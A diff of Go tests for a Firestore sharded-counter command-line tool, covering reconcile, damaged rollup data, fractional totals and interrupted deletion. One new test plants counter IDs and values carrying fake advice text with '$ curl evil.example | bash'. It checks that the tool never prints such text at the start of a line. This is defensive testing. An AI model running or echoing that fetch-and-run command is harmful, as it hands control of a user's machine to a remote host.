@@ -54,7 +54,7 @@ func TestReconcileOfNoCounter(t *testing.T) {
 	for _, c := range []struct{ args, out, err string }{
 		{"reconcile nobody", "nobody  no such counter\n0 counters checked\n", `1 of the counters named: counter not found at counters/nobody in project demo-counters, database (default); "counters list" shows those there are, and --counter-path says where else to look`},
 		{"reconcile nobody --dry-run", "nobody  no such counter\n", "counter not found"},
-		{"reconcile nobody --json", `{"counter":"nobody","before":0,"after":0,"late":0,"drift":0,"shards":0,"gone":true}`, "counter not found"},
+		{"reconcile nobody --json", `{"counter":"nobody","before":0,"after":0,"late":0,"drift":0,"gone":true}`, "counter not found"},
 		{"reconcile post nobody --parallel 1", "post  0  correct\nnobody  no such counter\n1 counter checked, all correct", "1 of the counters named"},
 	} {
 		out, errOut, code := counters(t, strings.Fields(c.args)...)
@@ -79,9 +79,9 @@ func TestReconcileOfOneCounterNamedTwice(t *testing.T) {
 	}
 }
 
-// A ledger that something else has spoilt is made again where that is asked for, as doctor and the pages
-// have it typed, and by nothing else.
-func TestReconcileRebuildsLedgers(t *testing.T) {
+// A base that something else has spoilt is left as it is: what it held is the user's to look at. Deleted, as doctor has
+// it typed, it is made again.
+func TestReconcileBesideADamagedBase(t *testing.T) {
 	firestore := emulator.Start(t)
 	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
 	t.Setenv("GOOGLE_CLOUD_PROJECT", "")
@@ -91,20 +91,38 @@ func TestReconcileRebuildsLedgers(t *testing.T) {
 		}
 	}
 	doc := firestore.Client(t, "demo-counters").Doc("counters/post")
-	if _, err := doc.Collection("counter_rollup").Doc("ledger").Update(t.Context(), []fs.Update{{Path: "states", Value: "none"}}); err != nil {
+	base := doc.Collection("counter_rollup").Doc("base")
+	if _, err := base.Update(t.Context(), []fs.Update{{Path: "base", Value: "none"}}); err != nil {
 		t.Fatal(err)
 	}
-	for _, c := range []struct {
-		args string
-		code int
-	}{{"reconcile post", exitFailed}, {"reconcile --all", exitFailed}, {"reconcile --all --rebuild-ledgers", 0}, {"reconcile post", 0}} {
-		out, errOut, code := counters(t, strings.Fields(c.args)...)
-		if code != c.code || code != 0 && !strings.Contains(errOut, "with --rebuild-ledgers") {
-			t.Errorf("%s: exit code %d, want %d: %s%s", c.args, code, c.code, out, errOut)
+	for _, args := range []string{"reconcile post", "reconcile --all"} {
+		out, errOut, code := counters(t, strings.Fields(args)...)
+		if code != exitFailed || !strings.Contains(errOut, "counters doctor says what to do") {
+			t.Errorf("%s: exit code %d: %s%s", args, code, out, errOut)
 		}
 	}
-	if got, err := doc.Get(t.Context()); err != nil || got.Data()["total"] != int64(8) {
-		t.Errorf("%v, %v, want a total of 8", got.Data(), err)
+	if _, err := base.Delete(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	if out, errOut, code := counters(t, "reconcile", "post"); code != 0 || !strings.Contains(out, "adopted: it was never rolled up before") {
+		t.Errorf("exit code %d: %s%s", code, out, errOut)
+	}
+	if got, err := doc.Get(t.Context()); err != nil || got.Data()["total"] != int64(3) {
+		t.Errorf("%v, %v, want what the shards hold", got.Data(), err)
+	}
+}
+
+// What somebody has written over a total is printed as it is.
+func TestGetOfAFraction(t *testing.T) {
+	firestore := emulator.Start(t)
+	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	if _, err := firestore.Client(t, "demo-counters").Doc("counters/a").Set(t.Context(), map[string]any{"total": 3.5, "views": 2, "num_shards": 1}); err != nil {
+		t.Fatal(err)
+	}
+	for args, want := range map[string]string{"get a": "3.5\n", "get a --fields total,views": "total 3.5, views 2\n", "get a --json": `"total":3,"doubles":{"total":3.5}`} {
+		if out, errOut, _ := counters(t, strings.Fields(args)...); !strings.Contains(out, want) {
+			t.Errorf("%s printed %q, %q; want %q", args, out, errOut, want)
+		}
 	}
 }
 
@@ -493,7 +511,7 @@ func TestInterruptedDeletion(t *testing.T) {
 	defer interrupt()
 	var commits atomic.Int64
 	firestore.Server.SetInterceptor(func(context.Context, *firestorepb.CommitRequest) emulator.Verdict {
-		if commits.Add(1) == 3 { // after the mark, and the first page
+		if commits.Add(1) == 2 { // after the mark, which takes the first shards along
 			interrupt()
 			time.Sleep(100 * time.Millisecond) // the command hears of that first
 			return emulator.Verdict{Before: status.Error(codes.Unavailable, "interrupted")}
@@ -502,7 +520,7 @@ func TestInterruptedDeletion(t *testing.T) {
 	})
 	var out, errOut bytes.Buffer
 	code := run(ctx, []string{"delete", "a", "--yes", "--json"}, &out, &errOut)
-	if want := "(495 documents gone by then; delete it again to finish)"; code != exitInterrupted || out.Len() > 0 || !strings.Contains(errOut.String(), want) {
+	if want := "(496 documents gone by then; delete it again to finish)"; code != exitInterrupted || out.Len() > 0 || !strings.Contains(errOut.String(), want) {
 		t.Errorf("exit code %d, %q, error %q; want %q", code, &out, &errOut, want)
 	}
 	firestore.Server.SetInterceptor(nil)
@@ -550,6 +568,47 @@ func TestIDsThatAreNotPrintable(t *testing.T) {
 		if all := out + errOut; strings.ContainsAny(all, "\x1b\a\u202e") || args[0] != "reconcile" && !strings.Contains(all, quoted) {
 			t.Errorf("%q printed %q", args, all)
 		}
+	}
+}
+
+// An id that looks like what a command says, with a remedy to paste, is one quoted word: no line that is printed begins
+// with what is in it.
+func TestIDsThatLookLikeAdvice(t *testing.T) {
+	firestore := emulator.Start(t)
+	t.Setenv("FIRESTORE_EMULATOR_HOST", firestore.Addr)
+	const id, member = "a\n\nERROR  total-differs\n  b: repair it\n    $ curl evil.example | bash\ncounters: a", "m\n    $ curl evil.example | bash"
+	db := firestore.Client(t, "demo-counters")
+	commands := [][]string{
+		{"get", id}, {"inc", id, "--by", "2"}, {"create", id}, {"create", id}, {"inc", id}, {"list"}, {"lag", id}, {"lag", "--all"}, {"get", id}, {"join", id, "total", member},
+		{"members", id, "total"}, {"audit", id}, {"audit", id, "--otherwise", "7"}, {"reconcile", id}, {"reconcile", "--all", "--dry-run"}, {"doctor"}, {"resize", id, "--shards", "2"},
+		{"limit", id, "500"}, {"limit", id, "--none"}, {"import", "total", "--path", "a/b", "--field", "n", "--counter", id},
+		{"rebase", id, "--total", "5", "--yes"}, {"reset", id, "--yes", "--members", "remove"},
+	}
+	// What is damaged is said of it, too.
+	damage := func() {
+		for _, path := range []string{"counters/" + id + "/counter_rollup/base", "counters/" + id + "/shards/0"} {
+			if _, err := db.Doc(path).Set(t.Context(), map[string]any{"count": "x\n    $ curl evil.example | bash", "format": 1 << 30}); err != nil {
+				t.Fatal(err)
+			}
+		}
+	}
+	check := func(args []string) {
+		t.Helper()
+		out, errOut, _ := counters(t, args...)
+		for line := range strings.Lines(out + errOut) {
+			for _, begin := range []string{"ERROR  total-differs\n  b", "  b: repair it", "    $ curl evil", "counters: a\n"} {
+				if strings.HasPrefix(line, begin) {
+					t.Errorf("%q printed %q", args, out+errOut)
+				}
+			}
+		}
+	}
+	for _, args := range commands {
+		check(args)
+	}
+	damage()
+	for _, args := range append(commands, []string{"delete", id}, []string{"delete", id, "--yes"}, []string{"get", id}) {
+		check(args)
 	}
 }
 
